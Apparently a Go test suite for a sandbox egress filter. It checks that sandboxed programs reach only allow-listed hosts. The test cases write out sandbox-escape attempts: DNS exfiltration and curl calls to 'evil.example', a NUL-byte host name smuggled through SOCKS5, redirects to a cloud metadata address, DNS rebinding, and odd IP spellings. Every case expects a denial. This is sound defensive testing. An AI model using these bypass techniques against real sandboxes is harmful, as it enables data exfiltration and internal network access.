package egress

import (
	"bytes"
	"crypto/sha256"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"palyra/conformance/world"
	"palyra/isolate/evidence"
)

const page = "https://packages.example/"

// ends are how a connection ends when curl has its page: with data unread, the close is a reset, and
// the call may be over before it.
var ends = []string{evidence.ConnClosed, evidence.ConnReset, evidence.ConnEnded}

// TestAllowed: curl reaches what is allowed, and the receipt says what it was.
func TestAllowed(t *testing.T) {
	b := begun(t)
	b.w.Set("packages.example", world.Addrs(world.Web, world.Web6))
	for _, c := range []struct {
		name string
		args []string
		http string
	}{
		{"IPv4", []string{"-4"}, "h2"},
		{"IPv6", []string{"-6"}, "h2"},
		{"HTTP/1.1", []string{"--http1.1"}, "http/1.1"},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := b.in(t)
			before := len(b.w.All())
			r := b.exec([]string{"Packages.example"}, nil, append(append([]string{"curl", "-sS"}, c.args...), page)...)
			if r.status != 0 || !strings.HasPrefix(r.stdout, "packages.example at ") || !slices.Equal(r.hosts, []string{"packages.example:443"}) {
				t.Fatal(r)
			}
			arrived := b.w.All()[before:]
			if len(arrived) != 1 || len(r.egress.Connections) != 1 {
				t.Fatalf("arrived %+v\n%s", arrived, r)
			}
			got, was := r.egress.Connections[0], arrived[0]
			if got.Host != "packages.example" || got.Port != 443 || got.Address != was.Local.Addr().String() || !slices.Contains(ends, got.Outcome) ||
				got.ServerName != was.ServerName || got.TLS != "TLS 1.3" || was.Protocol != c.http {
				t.Errorf("receipt %+v, arrived %+v", got, was)
			}
			// When the call is over, the server's last word (close_notify, in a record) may be on its way.
			if got.Outcome == evidence.ConnClosed && got.Received != was.Written || got.Received > was.Written || got.Received < was.Written-40 || got.Sent < was.Read || got.Sent == 0 || r.egress.Sent != got.Sent || r.egress.Received != got.Received {
				t.Errorf("receipt %+v, arrived %+v", r.egress, was)
			}
			if len(r.egress.Denied) != 0 || r.egress.Queries == 0 {
				t.Errorf("receipt %+v", r.egress)
			}
		})
	}
}

// TestNothing: a call without rules, or with others, reaches nothing and asks the world nothing.
func TestNothing(t *testing.T) {
	b := begun(t)
	b.w.Set("packages.example", world.Addrs(world.Web))
	b.w.Set("other.example", world.Addrs(world.Web))
	if out, err := b.outside("curl", "-sS", page); err != nil {
		t.Fatalf("control: %v\n%s", err, out)
	}
	b.w.Forget()
	b.w.Set("packages.example", world.Addrs(world.Web))
	b.w.Set("other.example", world.Addrs(world.Web))
	if r := b.exec(nil, nil, "curl", "-sS", page); r.status != 6 || len(b.w.All()) > 0 {
		t.Error(r)
	}
	r := b.exec([]string{"other.example:443"}, nil, "curl", "-sS", page)
	if r.status != 6 || !r.denied("packages.example", 0, evidence.DenyNotListed) || !strings.Contains(r.stderr, "packages.example") {
		t.Error(r)
	}
	// DNS as a way out: the name itself carries the secret, and never leaves the host.
	if r := b.exec([]string{"other.example:443"}, nil, "curl", "-sS", "https://secret-0123456789.evil.example/"); r.status != 6 || !r.denied("secret-0123456789.evil.example", 0, evidence.DenyNotListed) {
		t.Error(r)
	}
	if q, c := b.w.Queries(""), b.w.All(); len(q) > 0 || len(c) > 0 {
		t.Errorf("arrived: queries %v, connections %+v", q, c)
	}
}

// TestPort: another port of an allowed name isn't reached.
func TestPort(t *testing.T) {
	b := begun(t)
	b.w.Set("packages.example", world.Addrs(world.Web))
	if out, err := b.outside("curl", "-sS", "http://packages.example/"); err != nil {
		t.Fatalf("control: %v\n%s", err, out)
	}
	b.w.Forget()
	b.w.Set("packages.example", world.Addrs(world.Web))
	if r := b.exec([]string{"packages.example:443"}, nil, "curl", "-sS", "http://packages.example/"); r.status != 7 || len(b.w.All()) > 0 {
		t.Error(r)
	}
	if r := b.exec([]string{"packages.example:443"}, []string{"--env", "https_proxy=http://198.18.0.2:3128"}, "curl", "-sS", "https://packages.example:5432/"); r.status == 0 ||
		!r.denied("packages.example", 5432, evidence.DenyNotListed) || len(b.w.All()) > 0 {
		t.Error(r)
	}
}

// TestRuleBounds: a program has as much of a host as its rule's bounds let it, and is told of the bound
// when it has more.
func TestRuleBounds(t *testing.T) {
	b := begun(t)
	b.w.Set("packages.example", world.Addrs(world.Web))
	b.w.Set("other.example", world.Addrs(world.Web))
	const three = `for n in 1 2 3; do curl -sS -o /dev/null -w '%{http_code} ' https://packages.example/ || exit 1; done; curl -sS -o /dev/null https://other.example/`
	if r := b.exec([]string{"packages.example", "other.example"}, nil, "sh", "-c", three); r.status != 0 || r.stdout != "200 200 200 " {
		t.Fatal(r)
	}
	before := len(b.w.All())
	r := b.exec([]string{"packages.example rate:2/m", "other.example"}, nil, "sh", "-c", three)
	if r.status != 1 || !strings.HasPrefix(r.stdout, "200 200 ") || !r.denied("packages.example", 443, evidence.DenyLimit) || r.egress.Denied[0].Limit != "rate:2/m" || len(b.w.All())-before != 2 {
		t.Error(r)
	}
	if !slices.Equal(r.hosts, []string{"other.example:443", "packages.example:443 rate:2/m"}) || !strings.Contains(r.stderr, "asked for packages.example:443 beyond its rule's rate of 2/m") {
		t.Error(r.hosts, r)
	}
	r = b.exec([]string{"other.example", "packages.example received:512"}, nil, "sh", "-c", three) // a certificate is longer
	if r.status != 1 || strings.Contains(r.stdout, "200") || !r.denied("packages.example", 443, evidence.DenyLimit) || r.egress.Denied[0].Limit != "received:512" ||
		r.egress.Connections[0].Outcome != evidence.ConnLimit || r.egress.Connections[0].Received > 512 || !strings.Contains(r.stderr, "asked for packages.example:443 beyond the 512 bytes that its rule lets it get") {
		t.Error(r)
	}
}

// TestSSH: git over SSH gets nowhere, and who called is told the HTTPS remote of that host.
func TestSSH(t *testing.T) {
	for _, name := range []string{"git", "ssh"} {
		if _, err := exec.LookPath(name); err != nil {
			t.Fatalf("the test is about it: %v", err)
		}
	}
	b := begun(t)
	b.w.Set("packages.example", world.Addrs(world.Web))
	if err := b.w.MakeRepository(); err != nil {
		t.Fatal(err)
	}
	const hint = "git over SSH needs a key, and a call has none: use https://packages.example/, with its token as a placeholder"
	for name, c := range map[string]struct {
		hosts  []string
		script string
	}{
		"a name that isn't the call's": {[]string{"other.example"}, "git clone -q git@packages.example:repo.git"},
		"a URL":                        {[]string{"other.example"}, "git clone -q ssh://git@packages.example/repo.git"},
		"a host of the call's":         {[]string{"packages.example"}, "git clone -q git@packages.example:repo.git"},
		"its port":                     {[]string{"packages.example", "packages.example:22"}, "git clone -q ssh://git@packages.example/repo.git"},
		"a remote":                     {[]string{"packages.example"}, "git init -q /tmp/r && cd /tmp/r && git remote add origin git@packages.example:repo.git && git fetch -q"},
	} {
		if r := b.exec(c.hosts, nil, "sh", "-c", c.script); r.status == 0 || !strings.Contains(r.stderr, hint) {
			t.Errorf("%s: %s", name, r)
		}
	}
	if r := b.exec([]string{"other.example"}, nil, "curl", "-sS", "--proxytunnel", "--proxy", "http://198.18.0.2:3128", "http://packages.example:22/"); !r.denied("packages.example", 22, evidence.DenyNotListed) ||
		!strings.Contains(r.stderr, "asked for packages.example:22; git over SSH has no key in a call: use the HTTPS remote https://packages.example/") || !strings.Contains(r.stderr, "--egress packages.example:22 changes it") {
		t.Error(r)
	}
	if r := b.exec([]string{"packages.example"}, nil, "sh", "-c", "git clone -q https://packages.example/repo.git /tmp/clone && cat /tmp/clone/hello.txt"); r.status != 0 || r.stdout != "from the world\n" {
		t.Errorf("the HTTPS remote: %s", r)
	}
}

// TestSuffix: a rule for the names below a name, at the boundary of a label.
func TestSuffix(t *testing.T) {
	b := begun(t)
	for _, n := range []string{"cdn.example", "a.cdn.example", "a.b.cdn.example", "acdn.example"} {
		b.w.Set(n, world.Addrs(world.Web))
	}
	for name, ok := range map[string]bool{"a.cdn.example": true, "A.B.cdn.EXAMPLE": true, "cdn.example": false, "acdn.example": false} {
		if out, err := b.outside("curl", "-sS", "http://"+name+"/"); err != nil {
			t.Fatalf("control: %v\n%s", err, out)
		}
		if r := b.exec([]string{"*.cdn.example:80"}, nil, "curl", "-sS", "http://"+name+"/"); (r.status == 0) != ok || ok != (len(r.egress.Connections) == 1) {
			t.Errorf("%s: %s", name, r)
		}
	}
}

// TestForbidden: a name that leads into a range that names may not lead into reaches nothing, also
// if only one of its addresses does (ATTACKS 92). Outside, each of them is reached.
func TestForbidden(t *testing.T) {
	b := begun(t)
	for _, c := range []struct {
		name  string
		addrs []string
	}{
		{"private", []string{world.Private}},
		{"private6", []string{world.Private6}},
		{"metadata", []string{world.Metadata}},
		{"mixed", []string{world.Web, world.Private}},
		{"mixed6", []string{world.Web, world.Private6}},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := b.in(t)
			b.w.Forget()
			b.w.Set("lies.example", world.Addrs(c.addrs...))
			if out, err := b.outside("curl", "-sS", "http://lies.example/"); err != nil {
				t.Fatalf("control: %v\n%s", err, out)
			}
			before := len(b.w.All())
			r := b.exec([]string{"lies.example:80"}, nil, "curl", "-sS", "http://lies.example/")
			if r.status == 0 || !r.denied("lies.example", 80, evidence.DenyForbidden) || len(b.w.All()) != before {
				t.Error(r)
			}
		})
	}
	// The host's own loopback, where its services are.
	b.w.Set("lies.example", world.Addrs("127.0.0.1"))
	if r := b.exec([]string{"lies.example:80"}, nil, "curl", "-sS", "http://lies.example/"); r.status == 0 || !r.denied("lies.example", 80, evidence.DenyForbidden) {
		t.Error(r)
	}
	// A redirect into one is a name or address like any other.
	b.w.Set("packages.example", world.Addrs(world.Web))
	to := "http://packages.example/to?http%3A%2F%2F" + world.Metadata + "%2Flatest%2Fmeta-data%2F"
	if out, err := b.outside("curl", "-sSL", to); err != nil || !strings.Contains(out, "secret") {
		t.Fatalf("control: %v\n%s", err, out)
	}
	before := len(b.w.Connections(world.Metadata, 80))
	if r := b.exec([]string{"packages.example:80"}, nil, "curl", "-sSL", to); r.status == 0 || strings.Contains(r.stdout, "secret") || len(r.egress.Connections) != 1 || len(b.w.Connections(world.Metadata, 80)) != before {
		t.Error(r)
	}
}

// TestPrivate: an explicit rule for the network and the port opens a private address, and nothing
// beside it.
func TestPrivate(t *testing.T) {
	b := begun(t)
	b.w.Set("db.example", world.Addrs(world.Private))
	ask := []string{"bash", "-c", "read line </dev/tcp/db.example/5432 && echo $line"}
	for _, c := range []struct {
		hosts []string
		ok    bool
	}{
		{[]string{"db.example:5432", "10.0.0.0/8:5432"}, true},
		{[]string{"db.example:5432"}, false},
		{[]string{"db.example:5432", "10.0.0.0/8:443"}, false},
		{[]string{"db.example:5432", "10.1.0.0/16:5432"}, false},
		{[]string{"db.example:443", "10.0.0.0/8:5432"}, false},
	} {
		before := len(b.w.All())
		r := b.exec(c.hosts, nil, ask...)
		if (r.status == 0 && r.stdout == "ready\n") != c.ok || (len(b.w.All()) > before) != c.ok {
			t.Errorf("%v: %s", c.hosts, r)
		}
	}
}

// TestRebinding: a name is looked up once in a call, and what changes after it changes nothing.
func TestRebinding(t *testing.T) {
	b := begun(t)
	set := func() { b.w.Set("rebind.example", world.Then(world.Addrs(world.Web), world.Addrs(world.Private))) }
	set()
	twice := []string{"bash", "-c", "curl -4 -sS http://rebind.example/ && curl -4 -sS http://rebind.example/"}
	if out, err := b.outside(twice...); err != nil || !strings.Contains(out, "at "+world.Private) {
		t.Fatalf("control: %v\n%s", err, out)
	}
	before := len(b.w.Connections(world.Private, 80))
	set()
	r := b.exec([]string{"rebind.example:80"}, nil, twice...)
	if r.status != 0 || strings.Count(r.stdout, "at "+world.Web) != 2 || len(b.w.Connections(world.Private, 80)) != before || b.w.Asked("rebind.example", "A") != 1 {
		t.Errorf("asked %d times; %s", b.w.Asked("rebind.example", "A"), r)
	}
	for _, c := range r.egress.Connections {
		if c.Address != world.Web {
			t.Errorf("receipt %+v", c)
		}
	}
	// The world is another one for the next call.
	if r := b.exec([]string{"rebind.example:80"}, nil, twice...); r.status == 0 || !r.denied("rebind.example", 80, evidence.DenyForbidden) {
		t.Error(r)
	}
}

// TestNames: what names can be in the DNS.
func TestNames(t *testing.T) {
	b := begun(t)
	b.w.Set("packages.example", world.Addrs(world.Web))
	b.w.Set("alias.example", world.Alias("middle.example"))
	b.w.Set("middle.example", world.Alias("packages.example"))
	b.w.Set("liar.example", world.Alias("intranet.example"))
	b.w.Set("intranet.example", world.Addrs(world.Private))
	b.w.Set("six.example", world.Addrs(world.Web6))
	b.w.Set("dead.example", world.Addrs(world.Dead, world.Web, world.Dead6, world.Web6))
	b.w.Set("alone.example", world.Addrs(world.Web, world.Web6))
	b.w.Set("broken.example", world.Replies(world.Reply{Fails: true}))
	b.w.Set("lie.example", world.Replies(world.Reply{Other: true, Addrs: world.Addrs(world.Web)("A", 0).Addrs}))
	var many []string
	for i := range 40 {
		many = append(many, fmt.Sprintf("192.31.196.%d", 150+i))
	}
	b.w.Set("many.example", world.Addrs(many...))
	for _, c := range []struct {
		name string
		at   string // the address of the receipt; "" if none is reached
	}{
		{"alias.example", world.Web},
		{"liar.example", ""},
		{"six.example", world.Web6},
		{"many.example", "192.31.196."},
		{"dead.example", world.Web},
		{"broken.example", ""},
		{"lie.example", ""},
		{"none.example", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := b.in(t)
			r := b.exec([]string{c.name + ":80"}, nil, "curl", "-sS", "http://"+c.name+"/")
			if c.at == "" {
				if r.status == 0 || len(r.egress.Connections) > 0 {
					t.Error(r)
				}
				return
			}
			// An address of dead.example that swallows packets comes first: the next one is tried beside it.
			at := c.at
			if r.status != 0 || len(r.egress.Connections) != 1 || !strings.HasPrefix(r.egress.Connections[0].Address, at) && r.egress.Connections[0].Address != world.Web6 {
				t.Error(r)
			}
		})
	}
	if n := len(b.w.Connections(world.Private, 80)); n > 0 {
		t.Errorf("%d connections to the intranet", n)
	}
	// An alias isn't a rule for where it leads.
	if r := b.exec([]string{"alias.example:80"}, nil, "curl", "-sS", "http://packages.example/"); r.status != 6 || !r.denied("packages.example", 0, evidence.DenyNotListed) {
		t.Error(r)
	}
	r := b.exec([]string{"alone.example:81"}, nil, "curl", "-sS", "http://alone.example:81/") // no server listens there
	// curl tries both addresses that the name has in the cell.
	if r.status == 0 || len(r.egress.Connections) == 0 || r.egress.Connections[0].Outcome != evidence.ConnRefused || len(b.w.Connections(world.Web, 81)) > 0 {
		t.Error(r)
	}
}

// TestLiterals: an address is reached only if a rule has it.
func TestLiterals(t *testing.T) {
	b := begun(t)
	for _, c := range []struct {
		host string
		rule string
		ok   bool
	}{
		{world.Web, world.Web + ":80", true},
		{"[" + world.Web6 + "]", "[" + world.Web6 + "]:80", true},
		{world.Private, world.Private + ":80", true},
		{world.Web, "packages.example:80", false},
		{world.Web, world.Web + ":443", false},
		{"192.31.196.141", world.Web + ":80", false},
		{world.Metadata, world.Web + ":80", false},
		{"0xc01fc48c", world.Web + ":443", false}, // 192.31.196.140 in another spelling
	} {
		if out, err := b.outside("curl", "-sS", "http://"+c.host+"/"); err != nil {
			t.Fatalf("control: %v\n%s", err, out)
		}
		before := len(b.w.All())
		r := b.exec([]string{c.rule}, nil, "curl", "-sS", "-m", "20", "http://"+c.host+"/")
		if (r.status == 0) != c.ok || (len(b.w.All()) > before) != c.ok || c.ok && r.egress.Connections[0].Host != strings.Trim(c.host, "[]") {
			t.Errorf("%s with %s: %s", c.host, c.rule, r)
		}
	}
}

// TestHalfClose: a program that has said all still gets its answer.
func TestHalfClose(t *testing.T) {
	b := begun(t)
	b.w.Set("echo.example", world.Addrs(world.Web))
	script := b.write("src/half.py", `
import socket, sys
s = socket.create_connection((sys.argv[1], 7))
s.sendall(b"half a connection " * 10000)
s.shutdown(socket.SHUT_WR)
n = 0
while True:
    b = s.recv(65536)
    if not b: break
    n += len(b)
print(n)
`)
	r := b.exec([]string{"echo.example:7"}, []string{"--workspace", filepath.Dir(script) + ":ro"}, "/usr/bin/python3", "half.py", "echo.example")
	if r.status != 0 || r.stdout != "180000\n" || len(r.egress.Connections) != 1 || r.egress.Connections[0].Sent != 180000 || r.egress.Connections[0].Received != 180000 || r.egress.Connections[0].Outcome != evidence.ConnClosed {
		t.Error(r)
	}
}

// broken are how a connection ends that a server resets at once: connect(2) may see the reset.
var broken = []string{evidence.ConnResetByPeer, evidence.ConnUnreachable}

// TestHostile: servers that reset, never speak and never end.
func TestHostile(t *testing.T) {
	b := begun(t)
	b.w.Set("hostile.example", world.Addrs(world.Web))
	hosts := []string{"hostile.example:11", "hostile.example:9", "hostile.example:19", "hostile.example:80"}
	r := b.exec(hosts, nil, "curl", "-sS", "http://hostile.example:11/")
	if r.status == 0 || len(r.egress.Connections) == 0 || !slices.Contains(broken, r.egress.Connections[0].Outcome) {
		t.Error(r)
	}
	// One that never speaks lasts as long as the call.
	silent := b.start(hosts, []string{"--timeout", "3s"}, "curl", "-sS", "http://hostile.example:9/")
	b.w.Until(func() bool { return len(b.w.Connections(world.Web, 9)) == 1 })
	if r := silent.wait(); r.status == 0 || len(r.egress.Connections) != 1 || r.egress.Connections[0].Outcome != evidence.ConnEnded {
		t.Error(r)
	}
	// One that never ends is read as fast as the program reads, and no faster.
	r = b.exec(hosts, nil, "bash", "-c", "exec 3<>/dev/tcp/hostile.example/19; head -c 100000 <&3 | wc -c")
	if r.status != 0 || strings.TrimSpace(r.stdout) != "100000" || len(r.egress.Connections) != 1 || r.egress.Connections[0].Received < 100000 || r.egress.Connections[0].Received > 16<<20 {
		t.Error(r)
	}
}

// TestParallel: two calls have rules, names and addresses of their own.
func TestParallel(t *testing.T) {
	b := begun(t)
	b.w.Set("packages.example", world.Addrs(world.Web))
	b.w.Set("other.example", world.Addrs(world.Web6))
	both := []string{"bash", "-c", "curl -sS https://packages.example/; curl -sS https://other.example/; true"}
	first, second := b.start([]string{"packages.example"}, nil, both...), b.start([]string{"other.example"}, nil, both...)
	one, two := first.wait(), second.wait()
	if one.stdout != "packages.example at "+world.Web+":443\n" || !one.denied("other.example", 0, evidence.DenyNotListed) || len(one.egress.Connections) != 1 {
		t.Error(one)
	}
	if two.stdout != "other.example at ["+world.Web6+"]:443\n" || !two.denied("packages.example", 0, evidence.DenyNotListed) || len(two.egress.Connections) != 1 {
		t.Error(two)
	}
}

// TestPrograms: real programs that know nothing of a proxy.
func TestPrograms(t *testing.T) {
	b := begun(t)
	if err := b.w.MakeRepository(); err != nil {
		t.Fatal(err)
	}
	for _, n := range []string{"git.example", "packages.example"} {
		b.w.Set(n, world.Addrs(world.Web, world.Web6))
	}
	b.write("src/get.py", "import ssl, urllib.request\nprint(urllib.request.urlopen('"+page+"').read().decode(), end='')\n")
	b.write("src/get.js", "fetch('"+page+"').then(r => r.text()).then(t => process.stdout.write(t))\n")
	b.write("src/go.mod", "module example.org/app\n\ngo 1.25\n")
	b.write("src/main.go", "package main\n\nimport \"example.org/dep\"\n\nfunc main() { println(dep.Word) }\n")
	ws := []string{"--workspace", filepath.Join(b.home, "src")}
	goEnv := []string{"env", "GOPROXY=https://packages.example/mod", "GONOSUMDB=*", "GOFLAGS=-mod=mod", "GOTOOLCHAIN=local",
		"GOCACHE=/tmp/cache", "GOPATH=/tmp/go", "CGO_ENABLED=0"}
	goBin, err := exec.LookPath("go")
	if err != nil || !strings.HasPrefix(goBin, "/usr/") {
		goBin = "/usr/local/go/bin/go"
	}
	for _, c := range []struct {
		name string
		argv []string
		want string
	}{
		{"git", []string{"git", "clone", "-q", "https://git.example/repo.git", "clone"}, ""},
		{"python", []string{"/usr/bin/python3", "get.py"}, "packages.example at "},
		{"node", []string{"env", "NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt", "node", "get.js"}, "packages.example at "},
		{"go", append(slices.Clone(goEnv), goBin, "get", "example.org/dep@v1.0.0"), ""},
		{"pip", []string{"/usr/bin/python3", "-m", "pip", "install", "-q", "--disable-pip-version-check", "--no-deps", "--target", "pip", "--index-url", "https://packages.example/simple", "fromworld"}, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := b.in(t)
			program := c.argv[slices.IndexFunc(c.argv, func(s string) bool { return s != "env" && !strings.Contains(s, "=") })]
			if _, err := exec.LookPath(program); err != nil {
				t.Logf("not tried: %v", err)
				return
			}
			before := len(b.w.All())
			r := b.exec([]string{"git.example", "packages.example"}, ws, c.argv...)
			arrived := b.w.All()[before:]
			if r.status != 0 || !strings.HasPrefix(r.stdout, c.want) || len(r.egress.Connections) == 0 || len(r.egress.Connections) < len(arrived) {
				t.Errorf("arrived %+v\n%s", arrived, r)
			}
		})
	}
	if got, err := os.ReadFile(filepath.Join(b.home, "src/clone/hello.txt")); err != nil || string(got) != "from the world\n" {
		t.Errorf("hello.txt: %q, %v", got, err)
	}
}

// TestProxies: programs that insist on a proxy get to the same names, and to no others.
func TestProxies(t *testing.T) {
	b := begun(t)
	b.w.Set("packages.example", world.Addrs(world.Web))
	b.w.Set("evil.example", world.Addrs(world.Web))
	for _, proxy := range []string{"http://198.18.0.2:3128", "socks5h://198.18.0.2:1080"} {
		r := b.exec([]string{"packages.example"}, nil, "curl", "-sS", "-x", proxy, page)
		if r.status != 0 || !strings.HasPrefix(r.stdout, "packages.example at ") || len(r.egress.Connections) != 1 || r.egress.Connections[0].Host != "packages.example" || r.egress.Connections[0].ServerName != "packages.example" {
			t.Errorf("%s: %s", proxy, r)
		}
		r = b.exec([]string{"packages.example"}, nil, "curl", "-sS", "-x", proxy, "https://evil.example/")
		if r.status == 0 || !r.denied("evil.example", 443, evidence.DenyNotListed) || len(r.egress.Connections) != 0 {
			t.Errorf("%s: %s", proxy, r)
		}
		r = b.exec([]string{"packages.example"}, nil, "curl", "-sS", "-x", proxy, "https://"+world.Metadata+"/")
		if r.status == 0 || !r.denied(world.Metadata, 443, evidence.DenyNotListed) {
			t.Errorf("%s: %s", proxy, r)
		}
	}
	// The name with NUL that anthropic-experimental/sandbox-runtime took (ATTACKS 91).
	script := b.write("src/nul.py", `
import socket
s = socket.create_connection(("198.18.0.2", 1080))
name = b"evil.example\0.packages.example"
s.sendall(b"\5\1\0" + b"\5\1\0\3" + bytes([len(name)]) + name + b"\1\xbb")
b = b""
while len(b) < 4:
    got = s.recv(100)
    if not got: break
    b += got
print(b[:4])
`)
	r := b.exec([]string{"*.packages.example", "packages.example"}, []string{"--workspace", filepath.Dir(script) + ":ro"}, "/usr/bin/python3", "nul.py")
	if r.status != 0 || !strings.Contains(r.stdout, `b'\x05\x00\x05\x02'`) || len(r.egress.Connections) > 0 || len(b.w.Queries("evil.example")) > 0 {
		t.Error(r)
	}
}

// TestBrokerKilled: the call ends by name when palyra-egress dies, and the next one works.
func TestBrokerKilled(t *testing.T) {
	b := begun(t)
	b.w.Set("packages.example", world.Addrs(world.Web))
	running := b.start([]string{"packages.example:80"}, nil, "curl", "-sS", "-o", "/dev/null", "http://packages.example/forever")
	b.w.Until(func() bool { return len(b.w.Connections(world.Web, 80)) == 1 })
	kill(t, "palyra-egress", running.pid)
	r := running.wait()
	if r.status == 0 || r.outcome != "failed" || !strings.Contains(r.stderr, "egress") {
		t.Error(r)
	}
	if r := b.exec([]string{"packages.example"}, nil, "curl", "-sS", page); r.status != 0 {
		t.Error(r)
	}
}

// TestWorldChanges: the same call in another world has another receipt, in each field that the world
// decides.
func TestWorldChanges(t *testing.T) {
	b := begun(t)
	ask := func(n int) *call {
		return b.exec([]string{"packages.example:80"}, nil, "curl", "-4", "-sS", "-o", "/dev/null", fmt.Sprintf("http://packages.example/bytes/%d", n))
	}
	one := func(r *call) evidence.Connection {
		t.Helper()
		if r.status != 0 || len(r.egress.Connections) != 1 {
			t.Fatal(r)
		}
		return r.egress.Connections[0]
	}
	b.w.Set("packages.example", world.Addrs("192.31.196.151"))
	first := one(ask(1000000))
	b.w.Set("packages.example", world.Addrs("192.31.196.152"))
	second := one(ask(1500000))
	if first.Address != "192.31.196.151" || second.Address != "192.31.196.152" || second.Received-first.Received != 500000 || first.Sent != second.Sent {
		t.Errorf("first %+v, second %+v", first, second)
	}
	for _, c := range []evidence.Connection{first, second} {
		was := b.w.Connections(c.Address, 80)
		if len(was) != 1 || was[0].Written != c.Received || was[0].Read != c.Sent {
			t.Errorf("receipt %+v, arrived %+v", c, was)
		}
	}
	b.w.Set("packages.example", world.Addrs())
	if r := ask(1); r.status == 0 || len(r.egress.Connections) != 0 {
		t.Error(r)
	}
}

// TestBeside: what isn't a connection to an allowed name gets nowhere: the host's loopback, other
// resolvers, UDP, addresses beside the names'. Outside, each of them is reached.
func TestBeside(t *testing.T) {
	b := begun(t)
	b.w.Set("packages.example", world.Addrs(world.Web))
	host, err := net.Listen("tcp", "127.0.0.1:0") // the test's namespace is the host's
	if err != nil {
		t.Fatal(err)
	}
	defer host.Close()
	abstract, err := net.Listen("unix", "@palyra-egress-test")
	if err != nil {
		t.Fatal(err)
	}
	defer abstract.Close()
	answer := func(l net.Listener) {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			io.WriteString(c, "the host\n")
			c.Close()
		}
	}
	go answer(host)
	go answer(abstract)
	_, port, _ := net.SplitHostPort(host.Addr().String())
	b.write("src/try.py", `
import socket, sys, os
kind, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
if kind == "abstract":
    s = socket.socket(socket.AF_UNIX); s.connect("\0" + host)
elif kind == "udp":
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.connect((host, port))
    s.send(b"\xab\xcd\1\0\0\1\0\0\0\0\0\0\x08packages\7example\0\0\1\0\1")
else:
    s = socket.create_connection((host, port), 3)
    if port == 53:
        s.send(b"\0\x22\xab\xcd\1\0\0\1\0\0\0\0\0\0\x08packages\7example\0\0\1\0\1")
    elif port == 80:
        s.send(b"GET / HTTP/1.0\r\n\r\n")
b = s.recv(1000)
print("got", len(b))
sys.exit(0 if b else 1)
`)
	ws := []string{"--workspace", filepath.Join(b.home, "src") + ":ro"}
	for _, c := range [][]string{
		{"tcp", "127.0.0.1", port},
		{"abstract", "palyra-egress-test", "0"},
		{"udp", world.Resolver, "53"},
		{"tcp", world.Resolver, "53"},
		{"tcp", world.Web, "80"},
		{"tcp", world.Web6, "80"},
		{"tcp", world.Private, "80"},
		{"tcp", world.Metadata, "80"},
	} {
		if out, err := b.outside(append([]string{"/usr/bin/python3", "src/try.py"}, c...)...); err != nil {
			t.Errorf("control %v: %v\n%s", c, err, out)
		}
		before := len(b.w.All())
		r := b.exec([]string{"packages.example:443"}, ws, append([]string{"/usr/bin/python3", "try.py"}, c...)...)
		if r.status == 0 || len(b.w.All()) != before || r.outcome != "executed" {
			t.Errorf("%v: %s", c, r)
		}
	}
}

// TestMany: many connections at once, each counted.
func TestMany(t *testing.T) {
	b := begun(t)
	b.w.Set("echo.example", world.Addrs(world.Web))
	b.write("src/many.py", `
import socket, sys
n = int(sys.argv[1])
all = [socket.create_connection(("echo.example", 7)) for _ in range(n)]
for i, s in enumerate(all):
    s.sendall(b"%05d" % i); s.shutdown(socket.SHUT_WR)
for i, s in enumerate(all):
    b = b""
    while True:
        got = s.recv(100)
        if not got: break
        b += got
    assert b == b"%05d" % i, (i, b)
print(n)
`)
	r := b.exec([]string{"echo.example:7"}, []string{"--workspace", filepath.Join(b.home, "src") + ":ro"}, "/usr/bin/python3", "many.py", "200")
	if r.status != 0 || r.stdout != "200\n" || len(r.egress.Connections) != 200 || r.egress.Sent != 1000 || r.egress.Received != 1000 || len(b.w.Connections(world.Web, 7)) != 200 {
		t.Errorf("%d connections, %d arrived, status %d, sent %d, received %d\n%s%s", len(r.egress.Connections), len(b.w.Connections(world.Web, 7)), r.status, r.egress.Sent, r.egress.Received, r.stdout, r.stderr)
	}
}

// TestBounds: connections beyond those that a receipt lists are counted.
func TestBounds(t *testing.T) {
	b := begun(t)
	b.w.Set("echo.example", world.Addrs(world.Web))
	b.write("src/bounds.py", `
import socket
for i in range(300):
    s = socket.create_connection(("echo.example", 7))
    s.sendall(b"x"); s.shutdown(socket.SHUT_WR); assert s.recv(10) == b"x"; s.close()
`)
	ws := []string{"--workspace", filepath.Join(b.home, "src") + ":ro"}
	r := b.exec([]string{"echo.example:7"}, ws, "/usr/bin/python3", "bounds.py")
	if r.status != 0 || len(r.egress.Connections) != evidence.MaxConnections || r.egress.More != 300-evidence.MaxConnections || r.egress.Sent != 300 || r.egress.Received != 300 || len(b.w.Connections(world.Web, 7)) != 300 {
		t.Errorf("%d listed, %d more, %d sent, %d received: status %d %s", len(r.egress.Connections), r.egress.More, r.egress.Sent, r.egress.Received, r.status, r.stderr)
	}
}

// TestWhole: what is sent and received in large amounts arrives as it was. Source: the opaque tunnel of
// anthropic-experimental/sandbox-runtime, which changed bytes of an upload of 64 MiB
// (test/sandbox/connect-tunnel-integrity.test.ts).
func TestWhole(t *testing.T) {
	b := begun(t)
	b.w.Set("packages.example", world.Addrs(world.Web))
	const up, down = 64 << 20, 256 << 20
	body := bytes.Repeat([]byte("palyra16"), up/8)
	b.write("src/body", string(body))
	ws := []string{"--workspace", filepath.Join(b.home, "src") + ":ro", "--max-output", "1MiB"}
	want := fmt.Sprintf("%d %x <nil>\n", up, sha256.Sum256(body))
	for _, proxy := range []string{"", "http://198.18.0.2:3128", "socks5h://198.18.0.2:1080"} {
		r := b.exec([]string{"packages.example"}, ws, "curl", "-sS", "-x", proxy, "-T", "body", "https://packages.example/sum")
		if r.status != 0 || r.stdout != want || r.egress.Sent < up || r.egress.Sent > up+up/50 {
			t.Errorf("proxy %q: %s", proxy, r)
		}
	}
	zeros := sha256.New()
	io.CopyN(zeros, zero{}, down)
	r := b.exec([]string{"packages.example:80"}, nil, "bash", "-c", fmt.Sprintf("curl -sS http://packages.example/bytes/%d | sha256sum", down))
